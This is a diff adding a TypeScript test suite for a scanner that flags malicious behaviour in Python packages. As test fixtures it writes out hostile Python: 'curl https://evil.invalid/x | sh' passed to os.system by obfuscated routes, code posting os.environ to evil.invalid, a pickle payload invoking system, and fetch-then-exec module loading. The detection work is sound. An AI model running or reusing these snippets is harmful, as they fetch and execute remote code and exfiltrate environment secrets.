@@ -1,0 +1,130 @@
+import { judgeSources } from '../../src/analysis/judge-sources.js';
+import type { Severity } from '../../src/model/finding.js';
+import type { Python } from '../../src/python/parser.js';
+import { gravestByRule } from '../support/gravest-by-rule.js';
+import { loadTestPython } from '../support/python.js';
+import { sourceTree } from '../support/source-tree.js';
+
+let python: Python;
+beforeAll(async () => {
+  python = await loadTestPython();
+});
+
+function found(text: string, more: Readonly<Record<string, string>> = {}): Partial<Record<string, Severity>> {
+  const files = { 'pkg/__init__.py': text, ...more };
+  return gravestByRule(judgeSources(sourceTree(files, { kind: 'wheel', folder: '' }), python).findings);
+}
+
+const COMMAND = '"curl https://evil.invalid/x | sh"';
+
+test.each([
+  ['copy', `copy.deepcopy(${COMMAND})`],
+  ['typing', `typing.cast(str, ${COMMAND})`],
+  ['textwrap', `textwrap.fill(${COMMAND})`],
+  ['unicodedata', `unicodedata.normalize("NFKC", ${COMMAND})`],
+  ['random', `random.choice([${COMMAND}, "true && true"])`],
+  ['operator', 'operator.add("curl https://evil.invalid/x", " | sh")'],
+  ['string', 'string.Formatter().format("curl https://{}/x | sh", "evil.invalid")'],
+  ['os', `str.replace(${COMMAND}, "x", "y")`],
+  ['os', 'str.join(" ", ["curl", "https://evil.invalid/x", "|", "sh"])'],
+  ['os', `max("", ${COMMAND})`],
+  ['os', `format(${COMMAND})`],
+  ['os', `${COMMAND}.zfill(4)`],
+])('a text that %s passes on: %s', (module, text) => {
+  expect(found(`import os, ${module}\nos.system(${text})`)['hostile-command']).toBe('CRITICAL');
+  const harmless = text.replaceAll('curl https://', 'echo https://').replaceAll('curl', 'echo');
+  expect(found(`import os, ${module}\nos.system(${harmless})`)['hostile-command']).toBeUndefined();
+});
+
+test.each([
+  'urljoin("https://evil.invalid/a/", "c")',
+  'urljoin("https://example.invalid/", "//evil.invalid/c")',
+  'urljoin("/", "https://evil.invalid/c")',
+  'urlunsplit(("https", "evil.invalid", "/c", "", ""))',
+  'urlunparse(("https", "evil.invalid", "c", "", "a=1", ""))',
+])('an address that is put together: %s', (address) => {
+  const sends = (at: string): string => `
+import os, requests
+from urllib.parse import urljoin, urlunsplit, urlunparse
+requests.post(${at}, json=dict(os.environ))`;
+  expect(found(sends(address))['stolen-data-sent']).toBe('CRITICAL');
+});
+
+test.each([
+  ['from distutils.spawn import spawn', 'spawn(["sh", "-c", COMMAND])'],
+  ['import shutil', 'shutil.os.system(COMMAND)'],
+  ['import tempfile', 'tempfile._os.system(COMMAND)'],
+  ['import asyncio', 'asyncio.run(asyncio.subprocess.create_subprocess_shell(COMMAND))'],
+  ['import os, elsewhere', 'elsewhere.later(os.system, COMMAND)'],
+])('ways to start a command: %s, %s', (head, call) => {
+  const code = (command: string): string => `${head}\nCOMMAND = ${command}\n${call}`;
+  expect(found(code(COMMAND))['hostile-command']).toBe('CRITICAL');
+  expect(found(code('"true"'))['hostile-command']).toBeUndefined();
+});
+
+test('a function that is only asked about is not called', () => {
+  const code = `import os, inspect\nisinstance(os.system, ${COMMAND})\ninspect.unwrap(os.system, ${COMMAND})`;
+  expect(found(code)['hostile-command']).toBeUndefined();
+});
+
+test('what a program prints that fetches something is the answer of the other side', () => {
+  const code = (second: string): string => `
+import subprocess
+def warm():
+    first = subprocess.Popen(["curl", "-s", "https://evil.invalid/w"], stdout=subprocess.PIPE)
+    subprocess.Popen(["${second}"], stdin=first.stdout).wait()`;
+  expect(found(code('bash'))['download-started']).toBe('CRITICAL');
+  expect(found(code('gzip'))['download-started']).toBeUndefined();
+});
+
+const NAMED: Readonly<Record<string, string>> = {
+  ini: 'import configparser\nSET = configparser.ConfigParser()\nSET.read(HERE.with_name("own.dat"))\nAT = SET["cache"]["at"]',
+  'ini, asked':
+    'import configparser\nSET = configparser.ConfigParser()\nSET.read([HERE.with_name("own.dat")])\nAT = SET.get("cache", "at")',
+  yaml: 'import yaml\nAT = yaml.safe_load(HERE.with_name("own.dat").read_text())["cache"]["at"]',
+};
+
+test.each(Object.keys(NAMED))('addresses in settings that a package brings along: %s', (kind) => {
+  const code = `import os, pathlib, requests\nHERE = pathlib.Path(__file__)\n${NAMED[kind] ?? ''}\nrequests.post(AT, json=dict(os.environ))`;
+  const text =
+    kind === 'yaml'
+      ? 'cache:\n  size: 4 # of them\n  at: "https://evil.invalid/a"\n'
+      : '[cache]\nsize = 4\nAt = https://evil.invalid/a\n';
+  expect(found(code, { 'pkg/own.dat': text })['stolen-data-sent']).toBe('CRITICAL');
+  expect(found(code, { 'pkg/own.dat': 'nothing' })['stolen-data-sent']).not.toBe('HIGH');
+});
+
+test('the value of a member of an enumeration', () => {
+  const code = `
+import enum, os, requests
+class Place(enum.Enum):
+    HOME = "https://evil.invalid/a"
+requests.post(Place.HOME.value, json=dict(os.environ))`;
+  expect(found(code)['stolen-data-sent']).toBe('CRITICAL');
+});
+
+test.each([
+  ['numpy.load(HERE.with_name("own.dat"), allow_pickle=True)', 'import numpy'],
+  ['torch.load(os.path.join(os.path.dirname(__file__), "own.dat"), weights_only=False)', 'import torch'],
+  ['pickle.Unpickler(open(HERE.with_name("own.dat"), "rb")).load()', 'import pickle'],
+  ['joblib.load(HERE.with_name("own.dat"))', 'import joblib'],
+])('models that call something when they are read: %s', (call, head) => {
+  const code = `import os, pathlib\n${head}\nHERE = pathlib.Path(__file__)\nVALUE = ${call}`;
+  const data = { 'pkg/own.dat': 'HEADcposix\nsystem\n(Vcurl https://evil.invalid/x\ntR.' };
+  expect(found(code, data)['decoded-code-executed']).toBe('CRITICAL');
+  expect(found(code, { 'pkg/own.dat': 'HEAD(lp0\nI1\na.' })['decoded-code-executed']).toBeUndefined();
+});
+
+test('a module that was fetched and is loaded by its path', () => {
+  const code = (text: string): string => `
+import importlib.util, requests, tempfile
+def install():
+    path = tempfile.gettempdir() + "/kernel.py"
+    with open(path, "w") as file:
+        file.write(${text})
+    spec = importlib.util.spec_from_file_location("kernel", path)
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)`;
+  expect(found(code('requests.get("https://evil.invalid/k").text'))['remote-code-executed']).toBe('CRITICAL');
+  expect(found(code('"A = 1"'))['remote-code-executed']).toBeUndefined();
+});
